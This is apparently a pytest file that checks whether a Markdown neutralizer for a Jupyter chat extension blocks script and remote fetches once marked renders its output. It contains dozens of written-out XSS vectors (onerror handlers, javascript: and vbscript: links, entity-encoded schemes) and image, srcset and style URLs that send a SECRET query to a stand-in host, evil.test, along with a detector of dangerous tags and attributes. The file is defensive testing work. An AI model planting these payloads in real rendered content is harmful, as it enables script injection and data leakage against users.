"""Safe mode judged by the frontend's own parser: marked (the version JupyterLab 4.6 renders
with, from the npm registry) must produce no script and no remote fetch from anything safe mode
passes, final or intermediate, for the vectors an adversarial pass found and for a fuzzer's
mixes of them; and harmless answers are not damaged."""

from __future__ import annotations

import itertools
import json
import re
import shutil
import subprocess
from collections.abc import Iterator
from html.parser import HTMLParser
from pathlib import Path

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

import chatnb.markdown.splitter
from chatnb.display import MarkdownStream
from chatnb.markdown import neutralize, preview
from chatnb.markdown.math_text import frontend_math

from .live_browser import LiveBrowser

MARKED = "marked@16.4.2"  # what JupyterLab 4.6's markedparser-extension resolves to
_SERVER = """
const { marked } = require("marked");
const lines = require("readline").createInterface({ input: process.stdin });
lines.on("line", (line) => {
  process.stdout.write(JSON.stringify(marked.parse(JSON.parse(line))) + "\\n");
});
"""


class Marked:
    """marked in a node process: one document in, its HTML out."""

    def __init__(self, folder: Path) -> None:
        (folder / "render.js").write_text(_SERVER)
        self.process = subprocess.Popen(
            ["node", str(folder / "render.js")],
            cwd=folder,
            stdin=subprocess.PIPE,
            stdout=subprocess.PIPE,
            text=True,
            encoding="utf-8",
        )

    def html(self, markdown: str) -> str:
        assert self.process.stdin and self.process.stdout
        self.process.stdin.write(json.dumps(markdown) + "\n")
        self.process.stdin.flush()
        rendered: str = json.loads(self.process.stdout.readline())
        return rendered


@pytest.fixture(scope="module")
def marked(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Marked]:
    if not (shutil.which("node") and shutil.which("npm")):
        pytest.skip("node and npm are needed to run marked, the frontend's parser")
    folder = tmp_path_factory.mktemp("marked")
    subprocess.run(
        ["npm", "install", "--silent", "--no-audit", "--no-fund", MARKED],
        cwd=folder,
        check=True,
        timeout=300,
        capture_output=True,
    )
    parser = Marked(folder)
    yield parser
    parser.process.terminate()
    parser.process.wait(timeout=10)


_FORBIDDEN_TAGS = {"script", "iframe", "frame", "object", "embed", "link", "meta", "base", "style"}
_FETCHING = {"src", "srcset", "poster", "data", "background", "action", "formaction", "xlink:href"}
_LOCAL = re.compile(r"(?:data:image/|#)|(?![a-z][a-z0-9+.\-]*:)(?!//)[^\s]*$", re.I)


class _Tags(HTMLParser):
    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.found: list[str] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        if tag in _FORBIDDEN_TAGS:
            self.found.append(f"<{tag}>")
        for name, value in attrs:
            value = re.sub(r"[\x00-\x20\x7f]+", "", value or "").lower()
            if name.startswith("on"):
                self.found.append(f"{tag} {name}=")
            elif name == "style" and "url(" in value:
                self.found.append(f"{tag} style url(")
            elif name in _FETCHING and value and not _LOCAL.match(value):
                self.found.append(f"{tag} {name}={value}")
            elif name == "href" and value.startswith(("javascript:", "vbscript:", "data:")):
                self.found.append(f"{tag} href={value[:20]}")


def dangerous(html: str) -> list[str]:
    """What in ``html`` (real tags and attributes, not text) would run script or fetch."""
    tags = _Tags()
    tags.feed(html)
    tags.close()
    return tags.found


SECRET = "https://evil.test/collect?q=SECRET"
VECTORS = {
    "fence closed with trailing text": "```\ncode\n```~\n<img src=x onerror=alert(1)>",
    "deep quote": "> " * 25 + f"![x]({SECRET})",
    "deep list": "".join("  " * i + "- a\n" for i in range(25)) + "  " * 25 + f"- ![x]({SECRET})",
    "BOM in a label": f"![x][a\ufeffb]\n\n[a\ufeffb]: {SECRET}",
    "odd space in a label": f"![x][a\u2028b]\n\n[a\u2028b]: {SECRET}",
    "DEL in an image URL": "![x](https://evil.test/a\x7fb?q=SECRET)",
    "javascript link": "[x](javascript:alert(1))",
    "javascript definition in a quote": "> [a]: javascript:alert(1)\n\n[x][a]",
    "entity javascript": "[x](&#x6A;avascript:alert(1))",
    "autolink": "<javascript:alert(1)>",
    "srcset": f'<img srcset="{SECRET} 1x">',
    "style url": f'<p style="background:url({SECRET})">x</p>',
    "video poster": f'<video poster="{SECRET}"></video>',
    "html comment then img": f"<!-- x --><img src={SECRET}>",
    "reference image": f"![x][r]\n\n[r]: {SECRET}",
    "image in a table": f"| a |\n|---|\n| ![x]({SECRET}) |",
    "protocol-relative image": "![x](//evil.test/x.png)",
    "escaped colon": "![x](https\\://evil.test/x.png)",
    "entity image": "![x](&#104;ttps://evil.test/x.png)",
    "iframe": f"<iframe src={SECRET}></iframe>",
    # A bare web address (GFM) runs on to whitespace, swallowing the backslash before a "<"
    # and the backticks of a code span (and marked's text rule takes "~`" as plain text).
    "autolink right after an address": f"{SECRET}<javascript:-->",
    "autolink after an escaped one": f"{SECRET}\\<javascript:x>",
    "autolinks chained after an address": "https://a.test/<javascript:x><javascript:y>",
    "autolink after www.": "www.evil.test<javascript:alert(1)>",
    "autolink after an address in any case": "HTTPS://evil.test<vbscript:x>",
    "autolink after an ftp address": "ftp://evil.test/x<data:text/html,x>",
    "tag right after www.": "xwww.-->javascript:><img src=x onerror=alert(1)>",
    "backtick swallowed by an address": "https://a.test`x y` `<javascript:z>`",
    "backtick swallowed by a tilde": "x ~`` <javascript:x>``",
    "autolink in a definition's label": "[--><javascript:x> [r]: ?q=",
    "BOM before a link's address": "[x](\ufeffjavascript:alert(1))",
    # Where marked reads as text what CommonMark (and markdown-it) reads as a code span, so
    # that HTML shown literally in the span reaches the browser raw: a strikethrough, an
    # emphasis or a link that starts before the span and closes inside it (CommonMark gives
    # the span precedence), or a block that ends inside it (marked takes no lazy line into a
    # list item after a line starting with "#", nor after a blank line).
    "strikethrough closing inside a code span": "~~a `b~~ <img src=x onerror=alert(1)>`",
    "single tilde closing inside a code span": "~a `b~ <img src=x onerror=alert(1)>`",
    "emphasis closing inside a code span": "*a ``b`* <img src=x onerror=alert(1)>``",
    "underscore closing inside a code span": "_a ``b`_ <img src=x onerror=alert(1)>``",
    "link text closing inside a code span": "[a ``b`](u) <img src=x onerror=alert(1)>``",
    "code span across a list item's end": "- #a `b\n<img src=x onerror=alert(1)>`",
    "code span across a lazy line": "- a\n\n  b `c\n<img src=x onerror=alert(1)>`",
    "code span across a heading's end": "# `a http://x.test/@<img src=x onerror=alert(1)>\n`",
    # marked takes a lazy line into a list item's HTML block, where a backslash is shown.
    "lazy line in an HTML block": "* <details>\n<img src=x onerror=alert(1)><b>",
    "escaped tag in an HTML block": "- <b>\nx\\<img src=x onerror=alert(1)>",
    "browser's tag name in an HTML block": "* <details>\na<x!y src=x onerror=alert(1)>",
}


class _Screen:
    """Every version of every output a streamed answer showed."""

    appends_only = False

    def __init__(self) -> None:
        self.versions: list[str] = []

    def show(self, markdown: str) -> int:
        self.versions.append(markdown)
        return 0

    def replace(self, handle: int, markdown: str) -> None:
        self.versions.append(markdown)

    def note(self, text: str) -> None:
        pass


def streamed(pieces: list[str]) -> list[str]:
    """Every document the frontend rendered while ``pieces`` streamed in (every update
    renders): the Markdown outputs' versions, and what the live widget rendered in the
    browser (each frozen part, the open tail at every message: tests/live_browser.py)."""
    rendered: list[str] = []
    for screen in (_Screen(), LiveBrowser()):
        ticks = itertools.count(1)
        stream = MarkdownStream(True, sink=screen, clock=lambda: float(next(ticks)))  # type: ignore[arg-type]  # noqa: B023
        for piece in pieces:
            stream.feed(piece)
        stream.close()
        rendered += screen.versions if isinstance(screen, _Screen) else screen.rendered
    return rendered


@pytest.mark.parametrize("vector", VECTORS.values(), ids=VECTORS.keys())
def test_no_vector_gets_through_final_or_streaming(marked: Marked, vector: str) -> None:
    assert dangerous(marked.html(vector)), "the vector itself must be dangerous to marked"
    assert dangerous(marked.html(neutralize(vector))) == [], neutralize(vector)
    for cut in range(1, len(vector)):  # what a reader sees while it streams
        shown = neutralize(preview(vector[:cut]))
        assert dangerous(marked.html(shown)) == [], (cut, shown)
    for shown in streamed(list(vector)):  # the display's own outputs, a character at a time
        assert dangerous(marked.html(shown)) == [], shown


HARMLESS = [
    "Use `Vec<T>` or `<div>` in code, and\n\n```html\n<img src=x onerror=alert(1)>\n```\n",
    "Line one<br>line two, <kbd>Ctrl</kbd>+<kbd>C</kbd>, H<sub>2</sub>O, x<sup>2</sup>.",
    "<details>\n<summary>More</summary>\n\nHidden text.\n\n</details>",
    "A local image: ![chart](chart.png) and ![dot](data:image/png;base64,iVBORw0KGgo=).",
    "If $a<b$ and $$\\frac{x}{y}$$, then [docs](https://example.com) <https://example.com>.",
]


@pytest.mark.parametrize("text", HARMLESS)
def test_harmless_answers_are_not_touched(marked: Marked, text: str) -> None:
    assert neutralize(text) == text
    assert dangerous(marked.html(text)) == []


_PIECES = [
    "```", "```~", "~~~", "\n", "\n\n", "> ", "- ", "    ", "`", "<", ">", "/", "!", "[", "]",
    "(", ")", ":", "x", "img src=x onerror=alert(1)", "script", "iframe", "![a](", "![a][r]",
    "[r]: ", SECRET, "javascript:", "&#x6A;", "\ufeff", "\x7f", "\\", '"', " ", "<!--", "-->",
    "http://", "www.", "@", "?q=", "a.b", "x@y.z", "HTTPS://", "ftp://",
]  # fmt: skip


@settings(max_examples=300, deadline=None)
@given(st.lists(st.sampled_from(_PIECES), max_size=30))
def test_fuzzed_mixes_never_get_through(marked: Marked, pieces: list[str]) -> None:
    text = "".join(pieces)
    for shown in (neutralize(text), neutralize(preview(text)), *streamed(pieces)):
        assert dangerous(marked.html(shown)) == [], shown


# What a code span is to marked, next to what may take its backticks: strikethrough, emphasis,
# links, the blocks of lists, quotes and HTML (these found the vectors above, in thousands).
_SPAN_PIECES = [
    "`", "``", "~", "~~", "*", "_", "[", "](u)", "\n", "\n\n", "- ", "#", "  ",
    "<img src=x onerror=alert(1)>", "<details>", "<b>", "x", " ", "\\",
]  # fmt: skip


@settings(max_examples=1000, deadline=None)
@given(st.lists(st.sampled_from(_SPAN_PIECES), max_size=20))
def test_fuzzed_code_spans_are_code_for_marked_too(marked: Marked, pieces: list[str]) -> None:
    text = "".join(pieces)
    for shown in (neutralize(text), neutralize(preview(text))):
        assert dangerous(marked.html(shown)) == [], shown


def test_code_spans_that_marked_reads_as_code_are_left_alone(marked: Marked) -> None:
    # Emphasis and links around or before a code span, and fenced code in a list item, are
    # what answers hold: the span's HTML is shown as written, by marked too.
    for text in [
        "Use `std::shared_ptr<T>` or `std::unique_ptr<T>`, **not** `my_raw<T>`.",
        "**Note:** `Vec<T>` and _also_ `Box<dyn Fn()>`; see [docs](https://example.com).",
        "1. Add:\n\n    ```html\n    <div>x</div>\n    ```\n",
        "- a `<b>` tag\n- and `<i>` too, ~~gone~~ `<br>`",
    ]:
        assert neutralize(text) == text
        assert dangerous(marked.html(text)) == []


def frontend_html(marked: Marked, markdown: str) -> str:
    """What JupyterLab renders: math taken out first (rendermime's removeMath, as
    :func:`frontend_math` models it) and put back escaped, the rest parsed by marked."""
    out, last = [], 0
    for number, (start, end) in enumerate(frontend_math(markdown).spans):
        out.append(f"{markdown[last:start]}@@{number}@@")
        last = end
    return marked.html("".join(out) + markdown[last:])


# Math that holds what the parser reads as HTML: the frontend takes it out before Markdown is
# parsed, so it is harmless, but a backslash cannot reach it (that would break the TeX).
MATH_LOOKALIKES = [
    "$<x>$\n",
    "Use $<T>$ generics",
    "$<div>$",
    "$$<span>x</span>$$",
    "If $a<b$ and $b>c$, then $a<c$.",
    "$<img src=x onerror=alert(1)>$ and \\\\(<iframe>\\\\)",
]


@pytest.mark.parametrize("text", MATH_LOOKALIKES)
def test_math_holding_html_lookalikes_is_left_alone(marked: Marked, text: str) -> None:
    assert neutralize(text) == text
    assert neutralize(preview(text)) == preview(text)
    assert dangerous(frontend_html(marked, text)) == []
    for shown in streamed(list(text)):
        assert dangerous(frontend_html(marked, shown)) == [], shown


def test_html_next_to_math_is_still_escaped(marked: Marked) -> None:
    text = "$a<b$ <img src=x onerror=alert(1)> $<c>$"
    assert dangerous(frontend_html(marked, text))
    assert neutralize(text) == "$a<b$ \\<img src=x onerror=alert(1)> $<c>$"
    assert dangerous(frontend_html(marked, neutralize(text))) == []


def test_what_no_backslash_can_make_safe_shows_as_a_code_block(
    marked: Marked, monkeypatch: pytest.MonkeyPatch
) -> None:
    # The last line of defence: were the parser to read HTML where no backslash may go (here,
    # by reading math as Markdown, as neutralize once did), the part shows as code.
    monkeypatch.setattr(chatnb.markdown.splitter, "_masked", lambda markdown, spans: markdown)
    text = "Use $<img src=x onerror=alert(1)>$ ~~~ here"
    shown = neutralize(text)
    assert shown == f"~~~~\n{text}\n~~~~\n"
    assert dangerous(marked.html(shown)) == []
    assert dangerous(frontend_html(marked, shown)) == []


_MATH_PIECES = [
    *_PIECES, "$", "$$", "\\(", "\\)", "\\[", "\\]", "\\\\(", "\\\\)", "{", "}", "<T>",
    "<div>", "</span>", "\\begin{align}", "\\end{align}", "@@0@@", "\r",
]  # fmt: skip


@settings(max_examples=300, deadline=None)
@given(st.lists(st.sampled_from(_MATH_PIECES), max_size=30))
def test_math_and_html_mixes_never_raise_nor_get_through(marked: Marked, pieces: list[str]) -> None:
    text = "".join(pieces)
    for shown in (neutralize(text), neutralize(preview(text)), *streamed(pieces)):
        assert dangerous(frontend_html(marked, shown)) == [], shown


# Where taking the math out changes what marked reads around it.
MATH_SHIFTS = {
    # With the math taken out (no space left in it), a bare web address runs on to the "<"
    # and would take a backslash before it for its own: the "<" is written as "&lt;".
    "address through math": ">http://a.test/]~~~$- $<img src=x onerror=alert(1)>",
    # Math joins a fence's line to the next one, which holds a backtick: no fence, no code.
    "math breaking a fence": "```$<br>===<!</b>\n$``<img src=x onerror=alert(1)>~~~",
    # Display math still open shows as a code block; "[r]:" before it took the fence's line
    # for its address.
    "open math after a definition's label": "[r]: $$:+ \n<img src=x onerror=alert(1)>]$)# ",
}


@pytest.mark.parametrize("text", MATH_SHIFTS.values(), ids=MATH_SHIFTS.keys())
def test_what_math_shifts_is_still_escaped(marked: Marked, text: str) -> None:
    raw = [text, *(preview(text[:cut]) for cut in range(1, len(text)))]
    assert any(dangerous(frontend_html(marked, shown)) for shown in raw)
    assert dangerous(frontend_html(marked, neutralize(text))) == [], neutralize(text)
    for cut in range(1, len(text)):
        shown = neutralize(preview(text[:cut]))
        assert dangerous(frontend_html(marked, shown)) == [], (cut, shown)
